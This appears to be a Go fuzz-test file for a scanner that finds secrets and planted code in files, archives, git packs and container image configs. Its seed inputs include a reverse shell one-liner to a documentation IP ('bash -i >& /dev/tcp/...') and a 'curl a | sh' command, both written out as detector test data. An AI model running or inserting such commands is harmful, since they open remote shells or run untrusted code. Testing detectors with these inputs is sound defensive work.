package content_test

import (
	"bytes"
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"unicode"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"plimsoll/internal/evidence"
	"plimsoll/internal/inspect"
)

// fit fails where evidence holds what no report may show, or more than it may hold.
func fit(t *testing.T, f *evidence.Fragment) {
	t.Helper()
	if len(f.Secrets) > 2000 || len(f.Planted) > 2000 || len(f.Problems) > 100 {
		t.Fatalf("%d secrets, %d places of planted code, %d problems", len(f.Secrets), len(f.Planted), len(f.Problems))
	}
	for _, s := range f.Secrets {
		if s.Offset < 0 || s.Line < 0 || !shows(s.Inside+s.Name+s.Redacted) {
			t.Fatalf("secret %#v", s)
		}
	}
	for _, p := range f.Planted {
		if p.Offset < 0 || p.Line < 0 || !shows(p.Inside+p.Excerpt+p.Detail) || len(p.Excerpt) > 2000 {
			t.Fatalf("planted %#v", p)
		}
	}
}

func shows(s string) bool {
	return !strings.ContainsFunc(s, func(r rune) bool { return !unicode.IsPrint(r) })
}

func seeds(f *testing.F) [][]byte {
	line := "GITHUB_TOKEN=" + token(f) + "\n"
	return [][]byte{
		[]byte(line), []byte("a: " + base64.StdEncoding.EncodeToString([]byte("some text\n"+line)) + "\n"),
		zipOf(f, "a", line), tarOf(f, "a", line), gzipOf(f, tarOf(f, "a", line)), zstdOf(f, []byte(line)),
		zlibOf([]byte("blob 9\x00" + line)), packOf(object(3, nil, prose(1, 200)), object(6, []byte{0x80, 0x10}, delta(prose(1, 200), 20, line))),
		append([]byte("SQLite format 3\x00\x02\x00\x01\x01"), make([]byte, 600)...),
		[]byte("\xff\xfeG\x00H\x00"), []byte("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"),
	}
}

// FuzzInspect holds a file in blocks against the same file whole, and all that is
// said of it to what may be said.
func FuzzInspect(f *testing.F) {
	i, _ := inspector(f)
	for _, b := range seeds(f) {
		for _, path := range []string{"srv/x", "srv/x.zip", "objects/ab/" + strings.Repeat("c", 38), "srv/x.pack"} {
			f.Add(path, b, uint(7))
		}
	}
	long := prose(1, 300<<10)
	f.Fuzz(func(t *testing.T, path string, b []byte, cut uint) {
		file := &inspect.File{Path: path, Size: int64(len(b))}
		var first, again evidence.Fragment
		i.Inspect(t.Context(), file, b, &first)
		i.Inspect(t.Context(), file, b, &again)
		fit(t, &first)
		if !slices.Equal(list(&first), list(&again)) {
			t.Fatalf("once %v, then %v", list(&first), list(&again))
		}
		// A file without an archive around it gives the same secrets in blocks.
		text := slices.Concat([]byte("a line of text before all that\n"), b)
		var whole, parts evidence.Fragment
		i.LookWhole(t.Context(), file, text, &whole)
		at := int(cut % uint(len(text)))
		i.LookInBlocks(t.Context(), file, [][]byte{text[:at], text[at:]}, &parts)
		x, y := list(&whole), list(&parts)
		if !slices.Equal(x, y) {
			t.Fatalf("whole %v, in blocks %v", x, y)
		}
		fit(t, &whole)
		// The same text across the border of two blocks.
		filled := slices.Concat(long[cut%(20<<10):], b)
		whole, parts = evidence.Fragment{}, evidence.Fragment{}
		i.LookWhole(t.Context(), file, filled, &whole)
		i.LookInBlocks(t.Context(), file, [][]byte{filled}, &parts)
		if x, y := list(&whole), list(&parts); !slices.Equal(x, y) {
			t.Fatalf("behind other text: whole %v, in blocks %v", x, y)
		}
	})
}

// FuzzArchives wraps bytes in archives of which each is hostile in itself.
func FuzzArchives(f *testing.F) {
	i, _ := inspector(f)
	for _, b := range seeds(f) {
		for kind := range byte(6) {
			f.Add("m\x1b!", b, kind)
		}
	}
	f.Fuzz(func(t *testing.T, name string, b []byte, kind byte) {
		path := "x"
		switch kind % 6 {
		case 0:
			b = gzipOf(t, b)
		case 1:
			b = zstdOf(t, b)
		case 2:
			b = zipOf(t, name, string(b), name, string(b))
		case 3:
			b = packOf(object(3, nil, b), object(6, []byte{12}, b), object(7, make([]byte, 20), b))
			path = "x.pack"
		case 4:
			b = append([]byte("SQLite format 3\x00\x02\x00\x01\x01"), b...)
		case 5:
			b = slices.Concat([]byte("#!/bin/sh\n"), b)
		}
		var out evidence.Fragment
		i.Inspect(t.Context(), &inspect.File{Path: path, Size: int64(len(b))}, b, &out)
		fit(t, &out)
		if bytes.Contains(b, []byte("\x00\x00\x00\x00\x00\x00")) {
			return
		}
		out = evidence.Fragment{}
		sink := i.Open(t.Context(), &inspect.File{Path: path, Size: int64(len(b))}, &out)
		sink.Write(b)
		if err := sink.Close(); err != nil {
			t.Fatal(err)
		}
		fit(t, &out)
	})
}

func FuzzConfiguration(f *testing.F) {
	i, _ := inspector(f)
	f.Add("A="+token(f), "RUN |2 A=b c D=e /bin/sh -c make # buildkit", "/bin/bash\x00-o\x00pipefail\x00-c\x00curl a | sh")
	f.Add("=", "|1", "cmd\x00/S\x00/C")
	f.Fuzz(func(t *testing.T, variable, line, command string) {
		words := strings.Split(command, "\x00")
		c := &v1.ConfigFile{
			Config: v1.Config{
				Env: []string{variable}, Labels: map[string]string{variable: line}, Cmd: words, Entrypoint: words,
				Healthcheck: &v1.HealthConfig{Test: words}, OnBuild: []string{line}, Shell: words,
			},
			History: []v1.History{{CreatedBy: line, Comment: variable}},
		}
		found, veil := i.Veiled(t.Context(), c)
		fit(t, found)
		veil.Mask("config.Env.A", line)
	})
}
